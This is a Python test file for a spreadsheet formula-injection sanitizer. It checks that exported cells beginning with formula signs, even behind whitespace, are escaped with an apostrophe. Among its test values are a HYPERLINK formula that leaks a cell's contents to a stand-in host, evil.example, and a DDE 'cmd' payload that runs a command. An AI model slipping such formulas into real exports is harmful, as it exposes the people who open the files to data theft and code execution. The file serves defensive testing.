"""No exported cell can start a spreadsheet formula."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from compliance.sanitize import FORMULA_CHARS, is_dangerous, safe_cell

# What a spreadsheet might skip before it looks for a formula sign.
_LEADING = " \t\u00a0\u2003\u200b\ufeff\u3000\n\r"


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "+33 1 23 45 67 89",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\0=1",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        " =1+1",
        "   @SUM(A1)",
        "\u00a0=1",  # no-break space
        "\u200b=1",  # zero-width space
        "\ufeff+1",  # byte-order mark
        "\u3000-1",  # ideographic space
        "\uff1d1+1",  # full-width equals sign
        "\uff20SUM(A1)",
        "\t",
        "-",
    ],
)
def test_dangerous_values_get_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "",
        "Jean",
        "jean.dupont@firm.fr",
        "a=b",
        "Dupont-Martin",
        "info+news@firm.fr",
        "https://acme.example/u?t=abc",
        "   ",
        "'=1",  # already neutralised: unchanged, so safe_cell is idempotent
        "Société Générale",
    ],
)
def test_harmless_values_are_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_non_text_values() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(42) == "42"
    assert safe_cell(-5) == "'-5"
    assert safe_cell(dt.date(2026, 3, 1)) == "2026-03-01"
    assert safe_cell(True) == "yes"
    assert safe_cell(False) == "no"


@given(st.text())
def test_result_never_starts_a_formula(value: str) -> None:
    result = safe_cell(value)
    assert result in (value, "'" + value)
    assert not is_dangerous(result)
    stripped = result.lstrip(_LEADING)
    assert not stripped or stripped[0] not in FORMULA_CHARS or result.startswith("'")


@given(st.sampled_from(sorted(FORMULA_CHARS)), st.text(alphabet=_LEADING), st.text())
def test_formula_signs_behind_whitespace_are_caught(sign: str, lead: str, rest: str) -> None:
    value = lead + sign + rest
    assert safe_cell(value) == "'" + value


@given(st.text())
def test_idempotent(value: str) -> None:
    once = safe_cell(value)
    assert safe_cell(once) == once


def test_openpyxl_stores_safe_cells_as_text_not_formulas() -> None:
    # openpyxl writes any string starting with "=" as a formula: the escaped one must be text.
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"] = "=1+1"
    sheet["A2"] = safe_cell("=1+1")
    sheet["A3"] = safe_cell(" =1+1")
    buffer = io.BytesIO()
    book.save(buffer)
    reread = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert reread["A1"].data_type == "f"  # the control: unescaped, it is a formula
    assert reread["A2"].data_type == "s"
    assert reread["A3"].data_type == "s"
